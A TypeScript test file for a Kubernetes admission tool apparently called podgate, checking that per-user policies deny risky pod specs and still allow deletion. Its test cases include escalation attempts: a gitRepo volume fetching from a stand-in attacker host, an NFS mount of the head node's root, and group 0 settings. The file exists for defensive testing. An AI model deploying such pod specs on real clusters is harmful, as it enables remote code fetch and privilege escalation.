// Session 6 permissions probe, on the user's path (`podgate admit --users`): what the user's PSP refused
// and no per-user policy checked — other volume types, other groups, read-only grants — is denied.
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { runCli } from '../helpers/cli.js';

const dir = mkdtempSync(join(tmpdir(), 'podgate-confine-'));
const users = join(dir, 'users.yaml');
writeFileSync(
  users,
  `apiVersion: podgate.io/v1
kind: PermissionUser
metadata: {name: bob}
spec:
  uid: 1002
  gid: 1002
  releaseId: bob1234
  hostPaths: [{pathPrefix: /data/shared, readOnly: true}, {pathPrefix: /home/bob}]
`,
);

function review(spec: Record<string, unknown>, operation = 'CREATE'): string {
  const f = join(dir, `review-${Math.random().toString(36).slice(2)}.json`);
  const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', namespace: 'bob-restricted' }, spec };
  const objects = operation === 'DELETE' ? { object: null, oldObject: pod } : { object: pod };
  const request = { uid: '1', kind: { group: '', version: 'v1', kind: 'Pod' }, resource: { group: '', version: 'v1', resource: 'pods' }, namespace: 'bob-restricted', operation, userInfo: { username: 'bob', groups: ['system:authenticated'] }, ...objects };
  writeFileSync(f, JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request }));
  return f;
}

const container = (securityContext: Record<string, unknown> = {}, volumeMounts: unknown[] = []) => ({ name: 'c', image: 'busybox', securityContext: { allowPrivilegeEscalation: false, ...securityContext }, volumeMounts });

const cases: { name: string; spec: Record<string, unknown>; denied: RegExp | undefined }[] = [
  { name: 'a gitRepo volume', spec: { securityContext: { runAsUser: 1002 }, containers: [container({}, [{ name: 'g', mountPath: '/g' }])], volumes: [{ name: 'g', gitRepo: { repository: 'https://attacker.example/hooks.git' } }] }, denied: /volume-types: 'Only the following types of volumes may be used/ },
  { name: 'an nfs volume of the head node', spec: { securityContext: { runAsUser: 1002 }, containers: [container()], volumes: [{ name: 'n', nfs: { server: 'headnode', path: '/' } }] }, denied: /volume-types/ },
  { name: 'fsGroup 0', spec: { securityContext: { runAsUser: 1002, fsGroup: 0 }, containers: [container()] }, denied: /groups: 'validation error: Pods of bob may only use gid 1002/ },
  { name: 'runAsGroup 0 in a container', spec: { securityContext: { runAsUser: 1002 }, containers: [container({ runAsGroup: 0 })] }, denied: /groups:/ },
  { name: 'a read-only grant mounted read-write', spec: { securityContext: { runAsUser: 1002 }, containers: [container({}, [{ name: 's', mountPath: '/s' }])], volumes: [{ name: 's', hostPath: { path: '/data/shared' } }] }, denied: /read-only-host-paths: 'validation failure: hostPath volumes under \[\/data\/shared\]\n\s+must be mounted read-only/ },
  { name: 'a read-only grant mounted read-only, home read-write', spec: { securityContext: { runAsUser: 1002 }, containers: [container({}, [{ name: 's', mountPath: '/s', readOnly: true }, { name: 'h', mountPath: '/h' }])], volumes: [{ name: 's', hostPath: { path: '/data/shared' } }, { name: 'h', hostPath: { path: '/home/bob' } }] }, denied: undefined },
];

for (const c of cases) {
  test(`admit --users: ${c.name} is ${c.denied ? 'denied' : 'allowed'}`, async () => {
    const r = await runCli(['-o', 'json', 'admit', '--users', users, '--request', review(c.spec)]);
    const response = (JSON.parse(r.stdout) as { response: { allowed: boolean; status?: { message: string } } }).response;
    if (!c.denied) {
      assert.equal(response.allowed, true, response.status?.message);
      assert.equal(r.code, 0);
      return;
    }
    assert.equal(response.allowed, false);
    assert.equal(r.code, 1);
    assert.match(response.status?.message ?? '', c.denied);
  });
}

// Session 6 verification: the per-user deny rules were evaluated on DELETE (against the old object), so a
// pod admitted before these policies existed (a gitRepo volume, a read-only grant mounted read-write) could
// not be deleted, by its user or by its controller. The per-user policies match CREATE and UPDATE only.
for (const c of cases.filter((x) => x.denied !== undefined)) {
  test(`admit --users: deleting a pod with ${c.name} is allowed`, async () => {
    const r = await runCli(['-o', 'json', 'admit', '--users', users, '--request', review(c.spec, 'DELETE')]);
    const response = (JSON.parse(r.stdout) as { response: { allowed: boolean; status?: { message: string } } }).response;
    assert.equal(response.allowed, true, response.status?.message);
    assert.equal(r.code, 0);
  });
}

// The DELETE guard is a precondition (as the chart's), not match.operations, so that Kyverno's background
// scan (no admission operation) still judges existing pods. A guard: podgate's `apply` evaluates as a
// CREATE, so it passed with match.operations too.
test('apply (no admission operation, as a background scan) still reports a pod with a gitRepo volume', async () => {
  const rendered = join(dir, 'rendered.yaml');
  const r0 = await runCli(['users', 'render', '--no-psp', users]);
  assert.equal(r0.code, 0, r0.stderr);
  writeFileSync(rendered, r0.stdout);
  const pod = join(dir, 'pod.yaml');
  writeFileSync(pod, JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', namespace: 'bob-restricted' }, spec: cases[0]!.spec }));
  const r = await runCli(['-o', 'json', 'apply', rendered, '--resource', pod]);
  assert.match(r.stdout, /"rule": "volume-types",[^}]*"status": "fail"|"status": "fail",[^}]*"rule": "volume-types"/);
});
